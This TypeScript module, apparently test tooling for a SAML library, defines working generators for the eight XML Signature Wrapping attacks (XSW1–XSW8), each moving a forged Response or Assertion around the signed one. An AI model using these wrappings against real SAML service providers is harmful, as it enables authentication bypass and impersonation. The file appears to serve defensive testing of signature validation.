import type { Element } from '@xmldom/xmldom';
import { NAMESPACES } from '../../../saml/names.ts';
import { forgedCopy, signatureIn, without, type Parts } from './forgery.ts';

/** The eight signature wrappings that SAML Raider made known, after Somorovsky et al. (USENIX 2012). */
export const WRAPPINGS: Readonly<Record<string, (parts: Parts) => void>> = {
  'XSW1: the Response that was signed, in the Signature of a forged one': (parts) => {
    const forged = forgedCopy(parts, parts.response, { keepSignature: true });
    const original = parts.response.cloneNode(true) as Element;
    without(signatureIn(original));
    parts.document.replaceChild(forged, parts.response);
    anySignature(forged).appendChild(original);
  },
  'XSW2: the Response that was signed, before the Signature of a forged one': (parts) => {
    const forged = forgedCopy(parts, parts.response, { keepSignature: true });
    const original = parts.response.cloneNode(true) as Element;
    without(signatureIn(original));
    parts.document.replaceChild(forged, parts.response);
    const signature = anySignature(forged);
    signature.parentNode?.insertBefore(original, signature);
  },
  'XSW3: a forged Assertion before the signed one': (parts) => {
    parts.response.insertBefore(forgedCopy(parts, parts.assertion), parts.assertion);
  },
  'XSW4: the signed Assertion within a forged one': (parts) => {
    const forged = forgedCopy(parts, parts.assertion);
    parts.response.replaceChild(forged, parts.assertion);
    forged.appendChild(parts.assertion);
  },
  'XSW5: a forged Assertion with the Signature, and the signed one at the end': (parts) => {
    const forged = forgedCopy(parts, parts.assertion, { keepSignature: true });
    parts.response.replaceChild(forged, parts.assertion);
    without(signatureIn(parts.assertion));
    parts.response.appendChild(parts.assertion);
  },
  'XSW6: a forged Assertion with the Signature, and the signed one within that': (parts) => {
    const forged = forgedCopy(parts, parts.assertion, { keepSignature: true });
    parts.response.replaceChild(forged, parts.assertion);
    without(signatureIn(parts.assertion));
    (signatureIn(forged) ?? forged).appendChild(parts.assertion);
  },
  'XSW7: a forged Assertion in Extensions': (parts) => {
    const extensions = parts.document.createElementNS(NAMESPACES.protocol, 'samlp:Extensions');
    extensions.appendChild(forgedCopy(parts, parts.assertion, { id: idOf(parts.assertion) }));
    parts.response.insertBefore(extensions, parts.assertion);
  },
  'XSW8: the signed Assertion in an Object of a forged one’s Signature': (parts) => {
    const forged = forgedCopy(parts, parts.assertion, { keepSignature: true });
    parts.response.replaceChild(forged, parts.assertion);
    without(signatureIn(parts.assertion));
    const object = parts.document.createElementNS(NAMESPACES.signature, 'ds:Object');
    object.appendChild(parts.assertion);
    (signatureIn(forged) ?? forged).appendChild(object);
  },
};

// Where the style has no signature of its own at that place, the one that there is.
function anySignature(response: Element): Element {
  const [signature] = response.getElementsByTagNameNS(NAMESPACES.signature, 'Signature');
  if (signature === undefined) throw new Error('No signature');
  return signature;
}

function idOf(element: Element): string {
  return element.getAttribute('ID') ?? '';
}
